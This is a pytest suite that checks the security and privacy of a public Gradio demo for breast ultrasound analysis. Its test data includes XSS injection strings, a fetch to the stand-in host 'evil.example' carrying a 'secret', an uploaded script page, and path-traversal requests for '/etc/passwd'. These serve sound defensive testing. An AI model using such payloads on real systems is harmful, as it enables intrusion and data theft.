"""What the demo needs on a public server: /health, guarding headers, privacy, the API, About."""

import asyncio
import json
import subprocess
import sys
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import gradio as gr
import httpx
import numpy as np
import pytest
from browser import ANSWER_S
from gradio_client import Client, handle_file
from gradio_client.exceptions import AppError
from PIL import Image
from playwright.sync_api import expect

import busmtl
from busmtl import Predictor, weights
from busmtl.ui import about, server
from busmtl.ui.networks import Networks
from busmtl.variants import DEFAULT_VARIANT

pytest_plugins = ["browser"]

ROOT = Path(__file__).parent.parent
FILES = sorted((ROOT / "examples" / "images").glob("*.png"))
FRAME = '<iframe src="{}" width="900" height="700"></iframe>'

# Both kinds of foreign code: the answer comes once the browser has refused both, or at the first
# that runs.
INJECT = """() => new Promise((resolve) => {
    window.ran = () => resolve("ran");
    const refused = new Set();
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
        refused.add(effectiveDirective);
        if (refused.size === 2) resolve([...refused].sort().join(", "));
    });
    const place = document.createElement("div");
    document.body.append(place);
    place.innerHTML = `<img src="x" onerror="ran()">`;
    const script = document.createElement("script");
    script.textContent = "ran()";
    document.body.append(script);
})"""
FETCH = "url => fetch(url, {mode: 'no-cors'}).then(() => 'sent', () => 'refused')"


@pytest.fixture
def plain_page(chromium):
    """A page whose console may complain, since the test provokes what the policy forbids."""
    context = chromium.new_context()
    context.set_default_timeout(ANSWER_S * 1000)
    yield context.new_page()
    context.close()


def policy_of(answer):
    rules = answer.headers["content-security-policy"].split("; ")
    return {rule.partition(" ")[0]: rule.split()[1:] for rule in rules}


@pytest.fixture
def web(app):
    """Asks the demo by paths; a busy machine may take its time."""
    with httpx.Client(base_url=app.url, timeout=ANSWER_S) as client:
        yield client


def test_health(web):
    answer = web.get("/health").json()
    available = weights.available()
    assert answer["status"] == "ok"
    assert answer["version"] == busmtl.__version__
    assert answer["networks"]["available"] == available
    deadline = time.monotonic() + ANSWER_S
    while DEFAULT_VARIANT not in web.get("/health").json()["networks"]["loaded"]:
        assert time.monotonic() < deadline, "the default network is not loaded by itself"
        time.sleep(0.2)


def test_it_starts_without_network(app):
    assert f"Running on local URL:  {app.url}" in app.log.read_text()


def test_health_does_not_wait_for_a_network_that_is_being_loaded():
    networks = Networks()
    options = server.launch_options(networks, "")
    (route,) = options["app_kwargs"]["routes"]
    lock = networks._locks[DEFAULT_VARIANT]
    with lock, ThreadPoolExecutor(1) as pool:  # Playwright's loop runs in this thread
        answer = pool.submit(lambda: asyncio.run(route.endpoint(None))).result(ANSWER_S)
    assert json.loads(answer.body)["networks"]["loaded"] == []


@pytest.mark.parametrize("path", ["/", "/health", "/config", "/theme.css"])
def test_every_answer_is_guarded(web, path):
    answer = web.get(path)
    assert answer.status_code == 200
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["referrer-policy"] == "same-origin"
    policy = policy_of(answer)
    assert policy["default-src"] == ["'self'"]
    assert policy["frame-ancestors"] == ["'self'", "https://huggingface.co", "https://*.hf.space"]
    assert "'unsafe-inline'" not in policy["script-src"]
    outside = [s for key in policy.keys() - {"frame-ancestors"} for s in policy[key] if "//" in s]
    assert not outside


def test_each_page_has_its_own_nonce(web):
    nonces = set()
    for _ in range(2):
        answer = web.get("/")
        (nonce,) = [s for s in policy_of(answer)["script-src"] if s.startswith("'nonce-")]
        assert f'<script nonce="{nonce[7:-1]}"' in answer.text
        nonces.add(nonce)
    assert len(nonces) == 2


def test_an_uploaded_page_gets_no_leave_to_run(web):
    html = b"<script>alert(1)</script>"
    sent = web.post("/gradio_api/upload", files={"files": ("a.html", html)})
    answer = web.get(f"/gradio_api/file={sent.json()[0]}")
    assert answer.content == html
    assert answer.headers["content-disposition"].startswith("attachment")
    assert "'unsafe-inline'" not in policy_of(answer)["script-src"]


def test_foreign_code_does_not_run_and_nothing_is_sent_out(app, plain_page):
    plain_page.goto(app.url)
    expect(plain_page.locator("#picture .frame")).to_be_visible()
    assert plain_page.evaluate(INJECT) == "script-src-attr, script-src-elem"
    plain_page.route("https://evil.example/**", lambda route: route.fulfill(body="got it"))
    assert plain_page.evaluate(FETCH, "https://evil.example/?secret") == "refused"


def frame_it(page, app, origin):
    """Opens a page of that origin, which nobody has to serve, with the demo in a frame."""
    page.context.grant_permissions(["local-network-access"], origin=origin)
    body = FRAME.format(app.url)
    page.route(f"{origin}/", lambda route: route.fulfill(content_type="text/html", body=body))
    page.goto(f"{origin}/")
    return page.frame_locator("iframe").locator("#picture .frame")


@pytest.mark.parametrize("origin", ["https://huggingface.co", "https://someone-busmtl.hf.space"])
def test_the_hub_may_frame_the_page(app, plain_page, origin):
    expect(frame_it(plain_page, app, origin)).to_be_visible()


def test_nobody_else_may_frame_the_page(app, plain_page):
    with plain_page.expect_console_message(lambda message: "frame-ancestors" in message.text):
        picture = frame_it(plain_page, app, "https://evil.example")
    refusal = plain_page.frame_locator("iframe").locator("body")
    expect(refusal).to_contain_text("refused to connect")
    expect(picture).to_have_count(0)


def test_an_upload_stays_with_its_visitor(open_page, app, tmp_path):
    own = tmp_path / "own.png"
    Image.open(FILES[0]).crop((0, 0, 200, 200)).save(own)
    first, second = open_page(), open_page()
    addresses = []
    second.on("request", lambda request: addresses.append(request.url))
    shown = second.locator("#picture img.base").get_attribute("src")
    first.set_input_files("#upload input[type=file]", own)
    expect(first.locator("#picture .name")).to_have_text("own.png")
    second.get_by_role("button", name="Threshold and assumptions").click()
    second.get_by_label("My own", exact=True).check()
    expect(second.locator(".points [aria-current]")).to_contain_text("My own")  # by the server
    assert second.locator("#picture img.base").get_attribute("src") == shown
    third = open_page()
    for other in (second, third):
        assert "own.png" not in other.content()
    assert not [address for address in addresses if "/file=" in address]


@pytest.mark.parametrize("path", ["/etc/passwd", "../app.py", str(ROOT / "app.py")])
def test_files_of_the_server_stay_there(web, path):
    answer = web.get(f"/gradio_api/file={path}")
    assert answer.status_code in (403, 404)


def test_the_example_client_gets_what_the_package_gives(app, tmp_path):
    ran = subprocess.run(
        [sys.executable, ROOT / "examples" / "api_client.py", app.url, FILES[-1]],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=ANSWER_S,
    )
    assert ran.returncode == 0, ran.stderr
    expected = Predictor(DEFAULT_VARIANT).predict(FILES[-1])
    assert f"with probability {expected.malignant_prob:.3f}" in ran.stdout
    mask = Image.open(tmp_path / f"{FILES[-1].stem}-mask.png")
    assert np.array_equal(np.asarray(mask) == 255, expected.mask)


def test_the_endpoint_says_what_it_takes_and_gives(app):
    endpoint = Client(app.url, verbose=False).view_api(return_format="dict")
    parameters = endpoint["named_endpoints"]["/predict"]["parameters"]
    assert [each["parameter_name"] for each in parameters][:2] == ["image", "variant_id"]
    assert parameters[1]["type"]["enum"] == weights.available()
    assert "Research use only" in endpoint["named_endpoints"]["/predict"]["description"]


def test_a_caller_gets_a_sentence_for_a_bad_file(app, tmp_path):
    bad = tmp_path / "<b>bad.png"
    bad.write_bytes(FILES[0].read_bytes()[:300])
    client = Client(app.url, verbose=False)
    with pytest.raises(AppError) as caught:
        client.predict(handle_file(bad), api_name="/predict")
    sentence = str(caught.value)
    assert "Export" in sentence and "<b>" not in sentence and "/" not in sentence


def prob_of(endpoint, answer):
    if endpoint == "/compare":
        return [network["malignant_prob"] for network in answer["networks"]]
    return (answer if endpoint == "/predict" else answer[1]["rows"][0])["malignant_prob"]


@pytest.mark.parametrize("endpoint", ["/predict", "/compare", "/batch"])
def test_callers_with_one_and_the_same_file_all_get_an_answer(app, endpoint):
    client = Client(app.url, verbose=False)
    jobs = [client.submit(handle_file(FILES[2]), api_name=endpoint) for _ in range(4)]
    answers = [prob_of(endpoint, job.result(ANSWER_S)) for job in jobs]
    assert answers[0] and all(answer == answers[0] for answer in answers)
    assert not app.keeps(FILES[2].read_bytes())


def test_visitors_with_one_and_the_same_file_do_not_delete_each_other_s(open_page, app):
    pages = [open_page(), open_page()]
    for page in pages:
        page.set_input_files("#upload input[type=file]", FILES[2])
        expect(page.locator("#picture .name")).to_have_text(FILES[2].name)
    pages[0].locator("#clear").click()
    expect(pages[0].locator("#picture .empty")).to_be_visible()
    pages[1].locator("#variant input").click()
    pages[1].get_by_role("option").last.click()
    expect(pages[1].locator(f"#findings [data-variant={weights.available()[-1]}]")).to_be_visible()
    expect(pages[1].locator("#picture .name")).to_have_text(FILES[2].name)
    assert app.keeps(FILES[2].read_bytes())
    pages[1].locator("#clear").click()
    expect(pages[1].locator("#picture .empty")).to_be_visible()
    assert not app.keeps(FILES[2].read_bytes())


METRICS = {
    "weights_sha256": "ab" * 32,
    "busi_test": {
        "images": 50,
        "malignant": 20,
        "ranking": {"auc": {"value": 0.8765, "low": 0.81, "high": 0.93}},
        "calibration": {},
        "at_threshold": {
            "default": {
                "tpr": {"value": 0.7, "low": 0.6, "high": 0.8},
                "fpr": {"value": 0.2, "low": 0.1, "high": 0.4},
            }
        },
        "segmentation": {
            "dice_per_image_mean": {"value": 0.71, "low": 0.6, "high": 0.8},
            "missed_share": {"value": 0.06, "low": 0.01, "high": 0.12},
        },
    },
    "busi_normal": {"images": 30, "given_a_mask_share": 0.9},
    "busbra_validation_by_device": {
        "Old <b>": {"images": 40, "ranking": {"auc": {"value": 0.7}}},
        "New": {"images": 40, "ranking": {"auc": {"value": 0.9}}},
        "Rare": {"images": 3, "ranking": {"auc": {"value": 0.1}}},
    },
}


def test_about_takes_its_figures_from_the_measurements():
    table = about.figures({DEFAULT_VARIANT: METRICS})
    for figure in (
        "0.876 <small>[0.810, 0.930]",
        "70% <small>[60%, 80%]",
        "80% <small>[60%, 90%]",
        "6% <small>[1%, 12%]",
        "90% of 30",
        "50 images, 20 of them malignant",
    ):
        assert figure in table, figure
    limits = about.limits({DEFAULT_VARIANT: METRICS}, DEFAULT_VARIANT)
    for figure in (
        "in 90% of 30 images",
        "30% of the malignant test images benign (95 % interval 20% to 40%)",
        "0.70 (Old &lt;b&gt;) to 0.90 (New)",
        "about 40% of the lesions",
    ):
        assert figure in limits, figure


def test_about_names_what_was_not_measured():
    table = about.figures({"swin-cls": {}})
    assert table.count("n/a") == 6 and "No network here has been measured" in table
    assert "%" not in about.limits({"swin-cls": {}}, "swin-cls")


def test_about_on_the_page(open_page):
    page = open_page()
    page.get_by_role("tab", name="About").click()
    tab = page.locator("#about")
    expect(tab).to_contain_text("not a medical device")
    expect(tab).to_contain_text("after 40 minutes at the latest")
    expect(tab).to_contain_text(gr.__version__)
    for variant_id in weights.available():
        folder = weights.EMBEDDED / variant_id
        expect(tab).to_contain_text(weights.fingerprint(folder)[: about.HASH_LETTERS])
        metrics = json.loads((folder / about.METRICS_FILE).read_text())
        ranking = metrics["busi_test"].get("ranking")
        if ranking:
            expect(tab).to_contain_text(f"{ranking['auc']['value']:.3f}")
